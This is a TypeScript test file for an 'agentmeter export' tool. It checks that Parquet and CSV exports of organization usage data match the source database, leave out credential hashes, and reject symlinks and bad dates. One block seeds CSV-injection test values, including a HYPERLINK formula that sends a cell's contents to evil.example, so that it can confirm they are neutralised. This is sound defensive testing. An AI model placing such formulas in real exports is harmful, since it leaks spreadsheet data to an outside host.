// `agentmeter export`: two organizations' data over four days, exported for the middle two as Parquet and
// as CSV, then read back by a separate DuckDB with hive partitioning and compared with the source: counts
// and sums per organization and day, the range, the layout, plain types, and nothing secret.
import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { DuckDBInstance } from '@duckdb/node-api';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { OrgId, UserId } from '../../common/ids.ts';
import { createLogger } from '../../common/logger.ts';
import { EXPORT_TABLES, exportTables } from '../../pipeline/export.ts';
import { call, message, turn, usage } from '../helpers/records.ts';
import { type TestServer, testServer } from '../helpers/server.ts';
import { tempDir } from '../helpers/tmp.ts';

const NOW = new Date('2026-03-20T09:00:00Z');
const FROM = '2026-03-02';
const TO = '2026-03-03';
const log = createLogger({ name: 'test', level: 'silent' });
let server: TestServer;
let a: Awaited<ReturnType<TestServer['seedOrg']>>;
let b: Awaited<ReturnType<TestServer['seedOrg']>>;
let reader: Awaited<ReturnType<DuckDBInstance['connect']>>;

const rows = async (sql: string) => (await reader.runAndReadAll(sql)).getRowObjectsJson() as Record<string, unknown>[];

beforeAll(async () => {
  server = await testServer({ now: () => NOW });
  a = await server.seedOrg('Alpha');
  b = await server.seedOrg('Beta');
  const store = (org: typeof a, role: 'member' | 'manager', records: Parameters<TestServer['services']['ingest']['storeRecords']>[2]) =>
    server.services.ingest.storeRecords(org.orgId as OrgId, org.users[role].id as UserId, records);
  for (const day of ['2026-03-01', '2026-03-02', '2026-03-03', '2026-03-04']) {
    await store(a, 'member', [
      turn(day, { session_id: `a-${day}` }),
      call('Edit', day, { session_id: `a-${day}`, files: [{ ext: 'ts', name: 'x.ts', op: 'edit' }] }),
      call('Bash', day, { session_id: `a-${day}` }),
      usage('claude-sonnet-4-5', day, { input_tokens: 1000, output_tokens: 100 }, false, `a-${day}`),
      message(day, `a-${day}`),
    ]);
  }
  await store(b, 'manager', [
    turn(FROM, { session_id: 'b1' }),
    usage('claude-opus-4-1', FROM, { input_tokens: 50, output_tokens: 7 }, true, 'b1'),
  ]);
  await server.services.runBatch({ trigger: 'cli', log, now: NOW, from: '2026-03-01', to: '2026-03-04' });
  reader = await (await DuckDBInstance.create(':memory:')).connect();
});
afterAll(() => server.close());

/** How a reader is called: CSV quotes as RFC 4180 says (a quote inside a field is doubled). */
const readerOf = (format: 'parquet' | 'csv', glob: string, extra = 'hive_partitioning = true') =>
  format === 'parquet' ? `read_parquet('${glob}', ${extra})` : `read_csv('${glob}', ${extra}, header = true, quote = '"', escape = '"')`;

/** Per organization and day, from the source database and from the export. */
async function compare(out: string, format: 'parquet' | 'csv', table: string, dayExpr: string, measure: string) {
  const source = await server.db.all(
    `SELECT org_id, CAST(${dayExpr} AS VARCHAR) AS day, count(*)::INTEGER AS n, CAST(${measure} AS DOUBLE) AS m FROM ${table}
     WHERE CAST(${dayExpr} AS DATE) BETWEEN DATE '${FROM}' AND DATE '${TO}' GROUP BY ALL ORDER BY ALL`,
  );
  const exported = await rows(
    `SELECT org_id, CAST(day AS VARCHAR) AS day, count(*)::INTEGER AS n, CAST(${measure} AS DOUBLE) AS m
     FROM ${readerOf(format, `${out}/${table}/**/*.${format}`)} GROUP BY ALL ORDER BY ALL`,
  );
  expect(source.length, table).toBeGreaterThan(0);
  expect(exported, table).toEqual(source);
  return exported;
}

describe.each(['parquet', 'csv'] as const)('export as %s', (format) => {
  let out: string;
  beforeAll(async () => {
    out = join(tempDir(), 'export');
    const result = await exportTables(server.db, { from: FROM, to: TO, out, format, log });
    expect(result.map((t) => t.table)).toEqual(EXPORT_TABLES.map((t) => t.name));
    expect(result.find((t) => t.table === 'events')).toEqual({ table: 'events', rows: 7, partitions: 3 });
  });

  it('writes the hive layout, one folder per organization and day', () => {
    expect(readdirSync(out).sort()).toEqual(EXPORT_TABLES.map((t) => t.name).sort());
    expect(readdirSync(join(out, 'events')).sort()).toEqual([`org_id=${a.orgId}`, `org_id=${b.orgId}`].sort());
    expect(readdirSync(join(out, 'events', `org_id=${a.orgId}`)).sort()).toEqual([`day=${FROM}`, `day=${TO}`]);
    expect(readdirSync(join(out, 'events', `org_id=${b.orgId}`))).toEqual([`day=${FROM}`]);
    expect(existsSync(join(out, 'events', `org_id=${a.orgId}`, `day=${FROM}`, `data_0.${format}`))).toBe(true);
    expect(readdirSync(join(out, 'users')).sort()).toEqual([`org_id=${a.orgId}`, `org_id=${b.orgId}`].sort());
  });

  it('holds the same rows and sums as the source, for the range only', async () => {
    await compare(out, format, 'events', 'CAST(ts AS DATE)', 'count(tool_name)');
    await compare(out, format, 'usage', 'CAST(ts AS DATE)', 'sum(input_tokens + output_tokens)');
    await compare(out, format, 'assistant_messages', 'CAST(ts AS DATE)', 'count(*)');
    await compare(out, format, 'agg_tokens_day', 'day', 'sum(billable_tokens)');
    await compare(out, format, 'agg_user_day', 'day', 'sum(tool_calls)');
    await compare(out, format, 'agg_org_day', 'day', 'sum(daily_active_users)');
    await compare(out, format, 'agg_breakdown_day', 'day', 'sum(count)');
    const days = await rows(
      `SELECT DISTINCT CAST(day AS VARCHAR) AS d FROM ${readerOf(format, `${out}/*/*/*/*.${format}`, 'hive_partitioning = true, union_by_name = true')} ORDER BY d`,
    );
    expect(days).toEqual([{ d: FROM }, { d: TO }]);
  });

  it('keeps plain types: TIMESTAMP, and lists of structs (as JSON text in CSV)', async () => {
    const [row] = await rows(
      `SELECT typeof(ts) AS ts, typeof(files) AS files, CAST(files AS VARCHAR) AS value
       FROM ${readerOf(format, `${out}/events/**/*.${format}`)} WHERE tool_name = 'Edit' LIMIT 1`,
    );
    expect(row!['ts']).toBe('TIMESTAMP');
    if (format === 'parquet') expect(row!['files']).toBe('STRUCT(ext VARCHAR, "name" VARCHAR, op VARCHAR)[]');
    else expect(JSON.parse(String(row!['value']))).toEqual([{ ext: 'ts', name: 'x.ts', op: 'edit' }]);
  });

  it('exports users to join on, without metadata, and no credentials anywhere', async () => {
    const users = await rows(`SELECT * FROM ${readerOf(format, `${out}/users/**/*.${format}`)} ORDER BY email`);
    expect(users).toHaveLength(8);
    expect(Object.keys(users[0]!).sort()).toEqual(
      ['created_at', 'email', 'first_name', 'last_name', 'last_sign_in_at', 'org_id', 'role', 'user_id'].sort(),
    );
    let everything = '';
    for (const table of EXPORT_TABLES.filter((t) => t.name !== 'agg_hooks_day'))
      everything += JSON.stringify(await rows(`SELECT * FROM ${readerOf(format, `${out}/${table.name}/**/*.${format}`)}`));
    expect(everything).toContain(a.users.member.id);
    const hashes = await server.db.all<{ key_hash: string }>('SELECT hash AS key_hash FROM api_keys');
    expect(hashes.length).toBe(8);
    for (const { key_hash } of hashes) expect(everything).not.toContain(key_hash);
    for (const user of [...Object.values(a.users), ...Object.values(b.users)]) expect(everything).not.toContain(user.key.slice(3));
  });

  it('replaces the range when run again (no doubled rows)', async () => {
    await exportTables(server.db, { from: FROM, to: TO, out, format, log });
    await compare(out, format, 'events', 'CAST(ts AS DATE)', 'count(*)');
  });
});

describe('export input errors', () => {
  it('refuses a bad range and a symbolic link', async () => {
    const out = join(tempDir(), 'x');
    await expect(exportTables(server.db, { from: TO, to: FROM, out, format: 'parquet', log })).rejects.toThrow('is after');
    await expect(exportTables(server.db, { from: '2026-3-1', to: TO, out, format: 'parquet', log })).rejects.toThrow('YYYY-MM-DD');
    const { symlinkSync } = await import('node:fs');
    const link = join(tempDir(), 'link');
    symlinkSync(tempDir(), link);
    await expect(exportTables(server.db, { from: FROM, to: TO, out: link, format: 'parquet', log })).rejects.toThrow('symbolic link');
  });

  it('refuses a link planted under a table folder, and writes nothing through it', async () => {
    const { mkdirSync, symlinkSync } = await import('node:fs');
    const out = join(tempDir(), 'planted');
    const elsewhere = join(tempDir(), 'elsewhere');
    mkdirSync(join(out, 'events'), { recursive: true });
    mkdirSync(elsewhere);
    symlinkSync(elsewhere, join(out, 'events', `org_id=${a.orgId}`));
    await expect(exportTables(server.db, { from: FROM, to: TO, out, format: 'parquet', log })).rejects.toThrow('symbolic link');
    expect(readdirSync(elsewhere)).toEqual([]);
    // Nothing was exported: no table folder got data before the link was found.
    expect(readdirSync(join(out, 'events'))).toEqual([`org_id=${a.orgId}`]);
    expect(existsSync(join(out, 'agg_org_day'))).toBe(false);
  });
});

describe('export: CSV cells a spreadsheet would run, one organization, real days, the folder left as it is (issue #20)', () => {
  const DAY = '2026-03-10';
  let c: Awaited<ReturnType<TestServer['seedOrg']>>;
  beforeAll(async () => {
    c = await server.seedOrg('Gamma');
    await server.services.ingest.storeRecords(c.orgId as OrgId, c.users.member.id as UserId, [
      call('=HYPERLINK("http://evil.example/?"&A1)', DAY, { session_id: '@SUM(1+1)', files: [{ ext: 'ts', name: '-x.ts', op: 'edit' }] }),
      call('+cmd', DAY, { session_id: 'plain' }),
    ]);
  });
  const csvText = (out: string, orgId: string) => {
    const dir = join(out, 'events', `org_id=${orgId}`, `day=${DAY}`);
    return readdirSync(dir)
      .map((f) => readFileSync(join(dir, f), 'utf8'))
      .join('');
  };

  it('prefixes formula-like text with an apostrophe, as the dashboard does; --raw-csv keeps it as stored', async () => {
    const out = join(tempDir(), 'guarded');
    await exportTables(server.db, { from: DAY, to: DAY, out, format: 'csv', log });
    const guarded = csvText(out, c.orgId);
    expect(guarded).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1)"`);
    expect(guarded).toContain("'@SUM(1+1)");
    expect(guarded).toContain("'+cmd");
    expect(guarded).not.toMatch(/(^|,)[=+@-]/m);
    const raw = join(tempDir(), 'raw');
    await exportTables(server.db, { from: DAY, to: DAY, out: raw, format: 'csv', rawCsv: true, log });
    const kept = csvText(raw, c.orgId);
    expect(kept).toContain('"=HYPERLINK(""http://evil.example/?""&A1)"');
    expect(kept).toMatch(/(^|,)@SUM\(1\+1\)/m);
    expect(kept).not.toContain("'");
  });

  it('--org writes one organization and leaves the others already exported there', async () => {
    const out = join(tempDir(), 'by-org');
    await exportTables(server.db, { from: FROM, to: DAY, out, format: 'parquet', log });
    await exportTables(server.db, { from: FROM, to: DAY, out, format: 'parquet', orgId: c.orgId, log });
    expect(readdirSync(join(out, 'events')).sort()).toEqual([`org_id=${a.orgId}`, `org_id=${b.orgId}`, `org_id=${c.orgId}`].sort());
    const only = join(tempDir(), 'only');
    const result = await exportTables(server.db, { from: FROM, to: DAY, out: only, format: 'parquet', orgId: c.orgId, log });
    expect(result.find((t) => t.table === 'events')?.rows).toBe(2);
    expect(result.find((t) => t.table === 'users')?.rows).toBe(4);
    for (const table of ['events', 'users']) expect(readdirSync(join(only, table))).toEqual([`org_id=${c.orgId}`]);
    await expect(
      exportTables(server.db, { from: FROM, to: DAY, out: only, format: 'parquet', orgId: 'org_0000000000000000', log }),
    ).rejects.toThrow('no organization org_0000000000000000');
  });

  it('refuses impossible days such as 2026-02-30, and does not change the mode of an existing folder', async () => {
    const out = join(tempDir(), 'shared');
    mkdirSync(out);
    chmodSync(out, 0o755);
    await expect(exportTables(server.db, { from: '2026-02-30', to: '2026-03-01', out, format: 'csv', log })).rejects.toThrow(
      'not a real calendar day',
    );
    await exportTables(server.db, { from: DAY, to: DAY, out, format: 'csv', log });
    expect(statSync(out).mode & 0o777).toBe(0o755);
    expect(statSync(join(out, 'events')).mode & 0o777).toBe(0o700);
    const fresh = join(tempDir(), 'fresh');
    await exportTables(server.db, { from: DAY, to: DAY, out: fresh, format: 'csv', log });
    expect(statSync(fresh).mode & 0o777).toBe(0o700);
  });
});
